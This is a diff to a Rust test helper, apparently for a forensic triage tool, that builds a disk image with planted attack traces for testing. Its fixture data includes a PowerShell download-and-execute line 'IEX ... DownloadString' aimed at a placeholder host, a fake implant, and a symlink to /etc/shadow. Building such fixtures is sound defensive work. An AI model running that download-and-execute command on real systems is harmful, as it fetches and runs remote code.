@@ -158,3 +158,143 @@ pub fn secdo_network(key: &str, source_ip: &str, event_id: &str) -> serde_json::
         "severity": "HIGH", "event_id": event_id,
     })
 }
+
+/// Runs an image tool, failing the test with what to install when it is missing.
+pub fn tool(program: &str, args: &[&str], package: &str) {
+    let output = std::process::Command::new(program)
+        .args(args)
+        .env("TZ", "UTC")
+        .env("MTOOLS_SKIP_CHECK", "1")
+        .output()
+        .unwrap_or_else(|e| {
+            panic!("cannot run {program} ({e}): install the Debian package {package}")
+        });
+    assert!(
+        output.status.success(),
+        "{program} {args:?}: {}{}",
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    );
+}
+
+/// Sector where [`disk_image`]'s Linux partition starts, and its size in sectors.
+pub const LINUX_PARTITION: (u64, u64) = (2048, 65536);
+/// Sector where [`disk_image`]'s Windows (FAT) partition starts, and its size in sectors.
+pub const WINDOWS_PARTITION: (u64, u64) = (67584, 32768);
+
+/// A 64 MiB MBR disk built with the real tools: partition 1 an ext4 made by
+/// `mkfs.ext4 -d` from the `victim` host of [`library`] (brute force then a root login in
+/// `/var/log/auth.log`, a reverse shell in `/root/.bash_history`) plus files the triage
+/// profile leaves out; partition 2 a FAT volume filled by `mcopy` with Windows artifacts.
+/// Returns the raw disk and the ext4 tree it was made from.
+pub fn disk_image(dir: &Path) -> (PathBuf, PathBuf) {
+    let lib = library(&dir.join("src"));
+    let linux = lib.join("victim");
+    std::fs::create_dir_all(linux.join("usr/bin")).unwrap();
+    std::fs::write(linux.join("usr/bin/ls"), vec![0x7f; 5000]).unwrap();
+    std::fs::write(
+        linux.join("etc/passwd"),
+        "root:x:0:0:root:/root:/bin/bash\n",
+    )
+    .unwrap();
+    tool(
+        "touch",
+        &[
+            "-d",
+            "2024-03-01 12:00:00",
+            linux.join("etc/passwd").to_str().unwrap(),
+        ],
+        "coreutils",
+    );
+    std::fs::create_dir_all(linux.join("tmp/.x")).unwrap();
+    std::fs::write(linux.join("tmp/.x/implant"), b"\x7fELF dropped").unwrap();
+    std::os::unix::fs::symlink("/etc/shadow", linux.join("root/.lesshst")).unwrap();
+
+    let windows = dir.join("windows");
+    let logs = windows.join("Windows/System32/winevt/Logs");
+    std::fs::create_dir_all(&logs).unwrap();
+    std::fs::write(logs.join("Security.evtx"), b"ElfFile\0 not a real log").unwrap();
+    let psreadline =
+        windows.join("Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine");
+    std::fs::create_dir_all(&psreadline).unwrap();
+    std::fs::write(
+        psreadline.join("ConsoleHost_history.txt"),
+        "whoami\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\n",
+    )
+    .unwrap();
+    std::fs::create_dir_all(windows.join("Program Files/App")).unwrap();
+    std::fs::write(windows.join("Program Files/App/app.exe"), b"MZ").unwrap();
+
+    let fs_image = dir.join("linux.ext4");
+    let (start, sectors) = LINUX_PARTITION;
+    tool(
+        "mkfs.ext4",
+        &[
+            "-q",
+            "-F",
+            "-d",
+            linux.to_str().unwrap(),
+            fs_image.to_str().unwrap(),
+            &format!("{}k", sectors / 2),
+        ],
+        "e2fsprogs",
+    );
+    let disk = dir.join("disk.raw");
+    tool(
+        "truncate",
+        &["-s", "64M", disk.to_str().unwrap()],
+        "coreutils",
+    );
+    let script = format!(
+        "label: dos\nstart={start}, size={sectors}, type=83\nstart={}, size={}, type=c\n",
+        WINDOWS_PARTITION.0, WINDOWS_PARTITION.1
+    );
+    let table = dir.join("table.sfdisk");
+    std::fs::write(&table, script).unwrap();
+    tool(
+        "sh",
+        &[
+            "-c",
+            &format!("sfdisk -q {} < {}", disk.display(), table.display()),
+        ],
+        "fdisk",
+    );
+    tool(
+        "dd",
+        &[
+            &format!("if={}", fs_image.display()),
+            &format!("of={}", disk.display()),
+            "bs=512",
+            &format!("seek={start}"),
+            "conv=notrunc",
+            "status=none",
+        ],
+        "coreutils",
+    );
+    tool(
+        "mkfs.vfat",
+        &[
+            "--offset",
+            &WINDOWS_PARTITION.0.to_string(),
+            disk.to_str().unwrap(),
+            &(WINDOWS_PARTITION.1 / 2).to_string(),
+        ],
+        "dosfstools",
+    );
+    let fat = format!("{}@@{}", disk.display(), WINDOWS_PARTITION.0 * 512);
+    for top in ["Windows", "Users", "Program Files"] {
+        tool(
+            "mcopy",
+            &[
+                "-s",
+                "-m",
+                "-i",
+                &fat,
+                windows.join(top).to_str().unwrap(),
+                "::/",
+            ],
+            "mtools",
+        );
+    }
+    (disk, linux)
+}
